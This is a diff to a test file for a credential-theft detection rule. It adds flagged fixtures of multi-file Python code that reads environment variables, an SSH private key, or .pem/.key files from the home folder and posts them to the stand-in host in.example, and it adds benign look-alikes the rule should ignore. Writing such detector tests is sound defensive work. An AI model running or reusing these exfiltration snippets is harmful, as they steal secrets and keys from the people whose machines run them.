@@ -10,6 +10,38 @@ const post = (data: string) => `fetch('https://in.example', { method: 'POST', bo
 testRule(credentialTheft, {
   caught: [
     {
+      of: 'Python that reads in one file and sends in another',
+      files: {
+        'a.py': 'from lib import gather\nfrom net import ship\nship(gather())\n',
+        'lib.py': 'import os\ndef gather():\n    return dict(os.environ)\n',
+        'net.py': 'import requests\ndef ship(data):\n    requests.post("https://in.example/c", json=data)\n',
+      },
+      severity: 'critical',
+      says: 'environment',
+    },
+    {
+      of: 'classes of two modules, in a package',
+      files: {
+        'scripts/a.py':
+          'from tools.reporter import Reporter\nimport tools.creds as c\nReporter().send(c.Store().read())\n',
+        'scripts/tools/__init__.py': '',
+        'scripts/tools/creds.py':
+          'from pathlib import Path\nclass Store:\n    def read(self):\n        return (Path.home() / ".ssh" / "id_rsa").read_text()\n',
+        'scripts/tools/reporter.py':
+          'import requests\nclass Reporter:\n    URL = "https://in.example/c"\n    def send(self, data):\n        requests.post(self.URL, data=data)\n',
+      },
+      severity: 'critical',
+      says: 'in.example:443',
+    },
+    {
+      of: 'files that are searched for in a home folder',
+      files: {
+        'a.py':
+          'import os, requests\nfor root, _, names in os.walk(os.path.expanduser("~")):\n    for n in names:\n        if n.endswith((".pem", ".key")):\n            requests.post("https://in.example/e", files={"f": open(os.path.join(root, n), "rb")})\n',
+      },
+      severity: 'critical',
+    },
+    {
       of: 'who and where somebody is, without an install script',
       files: `${fs}${post('{ a: os.hostname(), b: os.userInfo() }')}`,
       severity: 'critical',
@@ -116,6 +148,23 @@ testRule(credentialTheft, {
     ].map((text) => ({ of: text, files: { 'a.sh': `#!/bin/bash\n${text}\n` }, severity: 'critical' as const })),
   ],
   silent: [
+    {
+      of: 'functions of the same name in files that know nothing of each other',
+      files: {
+        'a.py':
+          'import os\nfrom b import show\ndef send(data):\n    print(len(data))\nsend(dict(os.environ))\nshow()\n',
+        'b.py': 'import c\ndef show():\n    c.send("hello")\n',
+        'c.py': 'import requests\ndef send(data):\n    requests.post("https://api.example/c", json=data)\n',
+      },
+    },
+    {
+      of: 'a table that one file reads and another sends',
+      files: {
+        'a.py': 'from lib import load\nfrom net import send\nsend(load())\n',
+        'lib.py': 'def load():\n    return open("data/table.csv").read()\n',
+        'net.py': 'import requests\ndef send(data):\n    requests.post("https://api.example/c", data=data)\n',
+      },
+    },
     {
       of: 'one value out of a file, for the service that it belongs to',
       files: {
